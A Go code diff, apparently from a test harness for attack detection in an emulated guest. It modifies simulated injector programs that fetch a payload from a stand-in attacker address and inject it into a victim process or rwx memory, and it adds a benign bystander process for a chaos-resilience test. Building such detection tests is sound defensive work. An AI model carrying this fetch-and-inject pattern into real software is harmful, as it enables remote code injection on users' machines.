@@ -19,7 +19,7 @@ func networkInjector(name, victimName string, payloadLen uint32) Program {
 	buf := b.BSS(4096)
 
 	emitConnect(b, AttackerAddr)
-	emitRecv(b, buf, payloadLen)
+	emitRecvAll(b, buf, payloadLen)
 	emitFindAndOpenProcess(b, "victim")
 	emitInjectAndRun(b, buf, payloadLen)
 	emitExit(b, 0)
@@ -35,7 +35,7 @@ func selfInjector(name string, payloadLen uint32) Program {
 	buf := b.BSS(4096)
 
 	emitConnect(b, AttackerAddr)
-	emitRecv(b, buf, payloadLen)
+	emitRecvAll(b, buf, payloadLen)
 
 	// VirtualAlloc(self, anywhere, payloadLen, rwx)
 	b.Text.Movi(isa.EBX, 0)
@@ -300,6 +300,37 @@ func TransientReflective() Spec {
 		ExpectFlag: true,
 		ExpectRule: "netflow-export",
 	}
+	return s
+}
+
+// chaosBystander builds a CPU-bound benign process used by the chaos
+// experiment as the guest-fault target: it spins through a counted loop,
+// prints a completion line, and exits. Faults injected into it must never
+// disturb the attack detection running alongside.
+func chaosBystander(name string) Program {
+	b := peimg.NewBuilder(name)
+	b.DataBlk.Label("done").DataString("bystander done")
+	b.Text.Movi(isa.ECX, 0)
+	b.Text.Label("spin")
+	b.Text.Cmpi(isa.ECX, 200_000)
+	b.Text.Jge("out")
+	b.Text.Addi(isa.ECX, 1)
+	b.Text.Jmp("spin")
+	b.Text.Label("out")
+	emitDebugPrint(b, "done")
+	emitExit(b, 0)
+	return build(b, name)
+}
+
+// ChaosResilience is ReflectiveDLLInject plus a CPU-bound bystander: the
+// chaos experiment aims its guest-level faults (code flips, wild jumps) at
+// the bystander and asserts the attack is still detected and the run
+// completes.
+func ChaosResilience() Spec {
+	s := ReflectiveDLLInject()
+	s.Name = "chaos_resilience"
+	s.Programs = append(s.Programs, chaosBystander("bystander.exe"))
+	s.AutoStart = append(s.AutoStart, "bystander.exe")
 	return s
 }
 
